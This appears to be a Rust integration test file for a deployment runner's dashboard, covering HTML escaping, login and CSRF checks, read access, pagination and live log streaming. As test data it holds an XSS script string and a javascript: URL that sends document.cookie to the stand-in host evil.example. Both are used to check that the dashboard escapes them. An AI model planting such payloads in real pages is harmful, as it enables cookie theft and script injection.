//! The dashboard over HTTP: pages, escaping, login, CSRF, read access, live logs.

use std::time::Duration;

use crate::common::*;
use futures_util::StreamExt;
use runner::domain::JobId;
use serde_json::Value;

const HOSTILE_MESSAGE: &str = "<script>alert(1)</script> & \"quotes\"";

pub(crate) fn no_redirects() -> reqwest::Client {
    reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .timeout(Duration::from_secs(30))
        .build()
        .expect("client")
}

/// Queues a push job carrying `message`, and records a live deployment for it.
async fn live_deployment(runner: &TestRunner, message: &str, sha: &str) -> (i64, i64) {
    live_deployment_at(runner, message, sha, "http://127.0.0.1:1/").await
}

/// The same, the deployment at `url` (as a target or a terraform output named it).
async fn live_deployment_at(runner: &TestRunner, message: &str, sha: &str, url: &str) -> (i64, i64) {
    let mut push = fixture_json("push.with-no-username-committer.payload.json");
    push["after"] = sha.into();
    push["head_commit"]["message"] = message.into();
    let response = runner.deliver("push", &serde_json::to_vec(&push).expect("json")).await;
    assert_eq!(response.status(), 202);
    let job_id = response.json::<Value>().await.expect("json")["job_id"]
        .as_i64()
        .expect("job id");
    runner.wait_for_job_end(job_id).await;
    let deployment_id = record_live(runner, job_id, sha, url).await;
    // The job's attempt row (it failed at its checkout) was already there: name the URL.
    sqlx::query("UPDATE deployments SET url = $1 WHERE id = $2")
        .bind(url)
        .bind(deployment_id)
        .execute(runner.pool.db())
        .await
        .expect("set the URL");
    (job_id, deployment_id)
}

/// Logs in with the admin token; returns the `Cookie` header value.
pub(crate) async fn log_in(runner: &TestRunner) -> String {
    let response = no_redirects()
        .post(runner.url("/login"))
        .form(&[("token", ADMIN_TOKEN), ("next", "/")])
        .send()
        .await
        .expect("POST /login");
    assert_eq!(response.status(), 303);
    let cookie = response
        .headers()
        .get("set-cookie")
        .expect("a session cookie")
        .to_str()
        .expect("ascii")
        .to_owned();
    assert!(cookie.contains("HttpOnly"), "{cookie}");
    assert!(cookie.contains("SameSite=Strict"), "{cookie}");
    assert!(
        !cookie.contains(ADMIN_TOKEN),
        "the cookie must not carry the admin token"
    );
    cookie.split(';').next().expect("name=value").to_owned()
}

pub(crate) async fn page(runner: &TestRunner, path: &str, cookie: Option<&str>) -> (u16, String) {
    let mut request = no_redirects().get(runner.url(path));
    if let Some(cookie) = cookie {
        request = request.header("cookie", cookie);
    }
    let response = request.send().await.expect("GET");
    let status = response.status().as_u16();
    (status, response.text().await.expect("text"))
}

pub(crate) fn csrf_of(html: &str) -> String {
    let start = html.find("name=\"csrf\" value=\"").expect("a form with a CSRF token") + 19;
    html[start..start + 40].to_owned()
}

#[tokio::test]
async fn pages_show_deployments_jobs_and_deliveries_with_payload_text_escaped() {
    let runner = TestRunner::start().await;
    let sha = "0123456789abcdef0123456789abcdef01234567";
    let (job_id, deployment_id) = live_deployment(&runner, HOSTILE_MESSAGE, sha).await;

    let (status, html) = page(&runner, "/", None).await;
    assert_eq!(status, 200);
    assert!(html.contains(&format!("id=\"deployment-{deployment_id}\"")), "{html}");
    assert!(html.contains("&lt;script&gt;alert(1)&lt;/script&gt; &amp; &quot;quotes&quot;"));
    assert!(
        !html.contains("<script>alert(1)"),
        "the commit message reached the page as markup"
    );
    assert!(html.contains("https://github.com/Codertocat/Hello-World/commit/0123456789abcdef"));
    assert!(
        html.contains(&format!(
            "<tr id=\"deployment-{deployment_id}\" class=\"live\"><td><span class=\"badge s-live\">live</span>"
        )),
        "the live deployment is marked live: {html}"
    );
    // Without a login there is nothing to press.
    assert!(!html.contains("name=\"csrf\""));

    let (status, html) = page(&runner, &format!("/jobs/{job_id}"), None).await;
    assert_eq!(status, 200);
    assert!(html.contains("&lt;script&gt;alert(1)&lt;/script&gt;"));
    assert!(!html.contains("<script>alert(1)"));
    assert!(html.contains("id=\"steps\""));
    assert!(html.contains("data-step=\"checkout\""), "{html}");

    let (status, html) = page(&runner, "/deliveries", None).await;
    assert_eq!(status, 200);
    assert!(html.contains(&format!("href=\"/jobs/{job_id}\"")));

    let (status, html) = page(&runner, "/?status=live&project=hello", None).await;
    assert_eq!(status, 200);
    assert!(html.contains(&format!("deployment-{deployment_id}")));
    let (status, html) = page(&runner, "/?status=failed", None).await;
    assert_eq!(status, 200);
    assert!(html.contains("No deployments match"));
    let (status, _) = page(&runner, "/?status=%3Cb%3E", None).await;
    assert_eq!(status, 400);
    let (status, html) = page(&runner, "/jobs/999999", None).await;
    assert_eq!(status, 404);
    assert!(html.contains("There is no job 999999"));
    runner.stop().await;
}

#[tokio::test]
async fn an_empty_runner_says_so() {
    let runner = TestRunner::start().await;
    let (status, html) = page(&runner, "/", None).await;
    assert_eq!(status, 200);
    assert!(html.contains("No deployments yet"));
    let (_, html) = page(&runner, "/deliveries", None).await;
    assert!(html.contains("No webhook deliveries yet"));
    runner.stop().await;
}

#[tokio::test]
async fn deployments_page_keyset_paginates_newest_first() {
    let runner = TestRunner::start().await;
    let mut ids = Vec::new();
    for n in 0..55 {
        let sha = format!("f{n:039x}");
        ids.push(live_deployment(&runner, &format!("commit {n}"), &sha).await.1);
    }
    let (_, first) = page(&runner, "/", None).await;
    assert!(first.contains(&format!("deployment-{}\"", ids[54])));
    assert!(!first.contains(&format!("deployment-{}\"", ids[4])));
    let older = format!("/?before={}", ids[5]);
    assert!(
        first.contains(&format!("href=\"{older}\"")),
        "an Older link to the next page"
    );
    let (_, second) = page(&runner, &older, None).await;
    for id in &ids[..5] {
        assert!(second.contains(&format!("deployment-{id}\"")));
    }
    assert!(!second.contains(&format!("deployment-{}\"", ids[5])));
    runner.stop().await;
}

#[tokio::test]
async fn actions_need_a_login_and_the_sessions_csrf_token() {
    let runner = TestRunner::start().await;
    let (_, first) = live_deployment(&runner, "first", &"a".repeat(40)).await;
    live_deployment(&runner, "second", &"b".repeat(40)).await;
    let jobs_before = runner.count("jobs").await;
    let rollback = runner.url(&format!("/deployments/{first}/rollback"));

    // No login.
    let response = no_redirects()
        .post(&rollback)
        .form(&[("csrf", "0".repeat(40))])
        .send()
        .await
        .expect("POST");
    assert_eq!(response.status(), 401);
    assert!(response.text().await.expect("text").contains("Log in"));

    // A wrong token logs nobody in.
    let response = no_redirects()
        .post(runner.url("/login"))
        .form(&[("token", "not-the-admin-token-at-all")])
        .send()
        .await
        .expect("POST");
    assert_eq!(response.status(), 401);
    assert!(response.headers().get("set-cookie").is_none());
    // A made-up session cookie is no session.
    let response = no_redirects()
        .post(&rollback)
        .header("cookie", format!("runner_session={}", "f".repeat(64)))
        .form(&[("csrf", "0".repeat(40))])
        .send()
        .await
        .expect("POST");
    assert_eq!(response.status(), 401);

    let cookie = log_in(&runner).await;
    let (_, html) = page(&runner, "/", Some(&cookie)).await;
    let csrf = csrf_of(&html);
    assert!(html.contains(&format!("action=\"/deployments/{first}/rollback\"")));

    for (form_csrf, origin, why) in [
        (None, None, "no CSRF token"),
        (Some("0".repeat(40)), None, "a wrong CSRF token"),
        (
            Some(csrf.clone()),
            Some("https://evil.example"),
            "another site's Origin",
        ),
    ] {
        let mut request = no_redirects().post(&rollback).header("cookie", &cookie);
        if let Some(origin) = origin {
            request = request.header("origin", origin);
        }
        let fields: Vec<(&str, String)> = form_csrf.map(|c| vec![("csrf", c)]).unwrap_or_default();
        let response = request.form(&fields).send().await.expect("POST");
        assert_eq!(response.status(), 403, "{why}");
    }
    assert_eq!(runner.count("jobs").await, jobs_before, "a refused action queued a job");

    let response = no_redirects()
        .post(&rollback)
        .header("cookie", &cookie)
        .header("origin", runner.base.clone())
        .form(&[("csrf", csrf.clone())])
        .send()
        .await
        .expect("POST");
    assert_eq!(response.status(), 303);
    let location = response.headers()["location"].to_str().expect("ascii").to_owned();
    let job_id: i64 = location
        .strip_prefix("/jobs/")
        .and_then(|id| id.parse().ok())
        .expect("redirected to the new job");
    let job = runner.get_json(&format!("/api/jobs/{job_id}")).await;
    assert_eq!(job["trigger"], "rollback");
    assert_eq!(job["rollback_of"], first);

    // After logging out, the old cookie does nothing.
    let response = no_redirects()
        .post(runner.url("/logout"))
        .header("cookie", &cookie)
        .form(&[("csrf", csrf.clone())])
        .send()
        .await
        .expect("POST");
    assert_eq!(response.status(), 303);
    let response = no_redirects()
        .post(&rollback)
        .header("cookie", &cookie)
        .form(&[("csrf", csrf)])
        .send()
        .await
        .expect("POST");
    assert_eq!(response.status(), 401);
    runner.stop().await;
}

#[tokio::test]
async fn a_stored_delivery_can_be_replayed_by_an_admin() {
    let runner = TestRunner::start().await;
    let delivery_id = unique_delivery_id();
    let body = push_body("refs/heads/master", &"c".repeat(40));
    let response = runner.deliver_signed("push", &body, Some(SECRET), &delivery_id).await;
    assert_eq!(response.status(), 202);
    let replay = runner.url(&format!("/api/deliveries/{delivery_id}/replay"));
    assert_eq!(runner.client.post(&replay).send().await.expect("POST").status(), 401);
    let response = runner
        .client
        .post(&replay)
        .bearer_auth(ADMIN_TOKEN)
        .send()
        .await
        .expect("POST");
    assert_eq!(response.status(), 202);
    let job_id = response.json::<Value>().await.expect("json")["job_id"]
        .as_i64()
        .expect("job id");
    let job = runner.get_json(&format!("/api/jobs/{job_id}")).await;
    assert_eq!(job["trigger"], "replay");
    assert_eq!(job["sha"], "c".repeat(40));

    // The dashboard's button does the same.
    let cookie = log_in(&runner).await;
    let (_, html) = page(&runner, "/deliveries", Some(&cookie)).await;
    assert!(html.contains(&format!("action=\"/deliveries/{delivery_id}/replay\"")));
    let response = no_redirects()
        .post(runner.url(&format!("/deliveries/{delivery_id}/replay")))
        .header("cookie", &cookie)
        .form(&[("csrf", csrf_of(&html))])
        .send()
        .await
        .expect("POST");
    assert_eq!(response.status(), 303);

    // A push to a branch that is not deployed queues nothing, then or now.
    let ignored_id = unique_delivery_id();
    let ignored = push_body("refs/heads/feature", &"e".repeat(40));
    let response = runner.deliver_signed("push", &ignored, Some(SECRET), &ignored_id).await;
    assert_eq!(response.status(), 200);
    let response = runner
        .client
        .post(runner.url(&format!("/api/deliveries/{ignored_id}/replay")))
        .bearer_auth(ADMIN_TOKEN)
        .send()
        .await
        .expect("POST");
    assert_eq!(response.status(), 409);
    runner.stop().await;
}

#[tokio::test]
async fn login_only_read_access_guards_pages_and_the_api() {
    let runner = TestRunner::start_on_fakes(|dir| {
        let mut config = default_config(dir);
        config.dashboard.read_access = Some("login".into());
        config
    })
    .await;
    let response = no_redirects().get(runner.url("/jobs/1")).send().await.expect("GET");
    assert_eq!(response.status(), 303);
    assert_eq!(response.headers()["location"], "/login?next=%2Fjobs%2F1");
    let response = runner.client.get(runner.url("/api/jobs")).send().await.expect("GET");
    assert_eq!(response.status(), 401);
    let response = runner
        .client
        .get(runner.url("/api/jobs"))
        .bearer_auth("wrong-token-wrong-token")
        .send()
        .await
        .expect("GET");
    assert_eq!(response.status(), 401);
    let response = runner
        .client
        .get(runner.url("/api/jobs"))
        .bearer_auth(ADMIN_TOKEN)
        .send()
        .await
        .expect("GET");
    assert_eq!(response.status(), 200);
    let cookie = log_in(&runner).await;
    let (status, _) = page(&runner, "/", Some(&cookie)).await;
    assert_eq!(status, 200);
    let response = runner
        .client
        .get(runner.url("/api/deployments"))
        .header("cookie", &cookie)
        .send()
        .await
        .expect("GET");
    assert_eq!(response.status(), 200);
    // The webhook and the health check stay open.
    let response = runner.client.get(runner.url("/healthz")).send().await.expect("GET");
    assert_eq!(response.status(), 200);
    runner.stop().await;
}

/// Reads server-sent events until `until` says stop; returns (id, event, data) triples.
pub(crate) async fn read_events(
    response: reqwest::Response,
    until: impl Fn(&[(Option<String>, String, String)]) -> bool,
) -> Vec<(Option<String>, String, String)> {
    let mut stream = response.bytes_stream();
    let mut buffer = String::new();
    let mut events = Vec::new();
    let deadline = tokio::time::Instant::now() + Duration::from_secs(20);
    while !until(&events) {
        let chunk = tokio::time::timeout_at(deadline, stream.next())
            .await
            .unwrap_or_else(|_| panic!("events so far: {events:?}"));
        let Some(chunk) = chunk else { break };
        buffer.push_str(&String::from_utf8_lossy(&chunk.expect("chunk")));
        while let Some(end) = buffer.find("\n\n") {
            let block: String = buffer.drain(..end + 2).collect();
            let (mut id, mut event, mut data) = (None, "message".to_owned(), String::new());
            for line in block.lines() {
                if let Some(v) = line.strip_prefix("id:") {
                    id = Some(v.trim().to_owned());
                } else if let Some(v) = line.strip_prefix("event:") {
                    event = v.trim().to_owned();
                } else if let Some(v) = line.strip_prefix("data:") {
                    data.push_str(v.trim_start());
                }
            }
            if !data.is_empty() || id.is_some() {
                events.push((id, event, data));
            }
        }
    }
    events
}

#[tokio::test]
async fn live_logs_stream_new_lines_and_resume_after_the_last_event_id() {
    let remote = hanging_server();
    let runner = TestRunner::start_on_fakes(move |dir| {
        let mut config = default_config(dir);
        config.projects[0].clone_url = Some(remote);
        config
    })
    .await;
    let response = runner
        .deliver("push", &push_body("refs/heads/master", &"d".repeat(40)))
        .await;
    let job_id = response.json::<Value>().await.expect("json")["job_id"]
        .as_i64()
        .expect("job id");
    // The job is running, held by the hanging checkout.
    for _ in 0..100 {
        if runner.get_json(&format!("/api/jobs/{job_id}")).await["state"] == "running" {
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    let (log, writer) = runner::joblog::JobLog::start(
        runner.pool.clone(),
        JobId::new(job_id).expect("id"),
        Default::default(),
        Default::default(),
    );
    for n in 1..=3 {
        log.stdout(&format!("early line {n}"));
    }
    drop(log);
    writer.flush().await;
    let all = runner.job_log(job_id).await;
    let total = all.lines().count();
    assert!(total >= 3, "{all}");

    let stream_url = runner.url(&format!("/api/jobs/{job_id}/logs"));
    // The worker's own lines (its checkout's) may come before or after the early ones.
    let early = all
        .lines()
        .position(|line| line.contains("early line 3"))
        .expect("the early line")
        + 1;
    let resume_from = early - 1;
    let response = runner
        .client
        .get(&stream_url)
        .header("accept", "text/event-stream")
        .header("last-event-id", resume_from.to_string())
        .send()
        .await
        .expect("GET stream");
    assert_eq!(response.status(), 200);
    assert!(
        response.headers()["content-type"]
            .to_str()
            .expect("ascii")
            .starts_with("text/event-stream")
    );

    let pool = runner.pool.clone();
    let late = tokio::spawn(async move {
        tokio::time::sleep(Duration::from_millis(300)).await;
        let (log, writer) = runner::joblog::JobLog::start(
            pool,
            JobId::new(job_id).expect("id"),
            Default::default(),
            Default::default(),
        );
        log.stdout("a line written after the stream opened");
        drop(log);
        writer.flush().await;
    });
    let events = read_events(response, |events| {
        events
            .iter()
            .any(|(_, _, data)| data.contains("after the stream opened"))
    })
    .await;
    late.await.expect("writer");
    let lines: Vec<&(Option<String>, String, String)> = events.iter().filter(|(_, e, _)| e == "message").collect();
    assert_eq!(
        lines[0].0.as_deref(),
        Some(early.to_string().as_str()),
        "resumes right after Last-Event-ID: {events:?}"
    );
    assert!(lines[0].2.contains("early line 3"), "{events:?}");
    let state = events.iter().find(|(_, e, _)| e == "job").expect("a job event");
    let state: Value = serde_json::from_str(&state.2).expect("json");
    assert_eq!(state["state"], "running");
    assert_eq!(state["steps"][0]["name"], "checkout");

    // Cancelling ends the stream with the final state.
    let response = runner
        .client
        .get(&stream_url)
        .header("accept", "text/event-stream")
        .header("last-event-id", (total + 1).to_string())
        .send()
        .await
        .expect("GET stream");
    let cancel = runner
        .client
        .post(runner.url(&format!("/api/jobs/{job_id}/cancel")))
        .bearer_auth(ADMIN_TOKEN)
        .send()
        .await
        .expect("POST");
    assert_eq!(cancel.status(), 200);
    let events = read_events(response, |events| events.iter().any(|(_, e, _)| e == "end")).await;
    assert_eq!(events.last().expect("end").2, "cancelled", "{events:?}");

    let bad = runner
        .client
        .get(&stream_url)
        .header("accept", "text/event-stream")
        .header("last-event-id", "yesterday")
        .send()
        .await
        .expect("GET");
    assert_eq!(bad.status(), 400);
    runner.stop().await;
}

#[tokio::test]
async fn a_deployment_url_that_is_not_a_web_address_is_shown_as_text_never_as_a_link() {
    let runner = TestRunner::start().await;
    let hostile = "javascript:fetch('//evil.example/'+document.cookie)";
    let (job_id, _) = live_deployment_at(&runner, "deploy", &"a".repeat(40), hostile).await;
    let page = runner.get_text(&format!("/jobs/{job_id}")).await;
    let shown = "javascript:fetch(&#39;//evil.example/&#39;+document.cookie)";
    assert!(
        page.contains(shown) || page.contains("javascript:fetch('//evil.example/'+document.cookie)"),
        "{page}"
    );
    assert!(
        !page.to_lowercase().contains("href=\"javascript:"),
        "a javascript: URL became a link: {page}"
    );

    // A web address is still a link.
    let (job_id, _) = live_deployment_at(&runner, "deploy", &"b".repeat(40), "https://app.example/").await;
    let page = runner.get_text(&format!("/jobs/{job_id}")).await;
    assert!(page.contains("href=\"https://app.example/\""), "{page}");
    runner.stop_quickly().await;
}
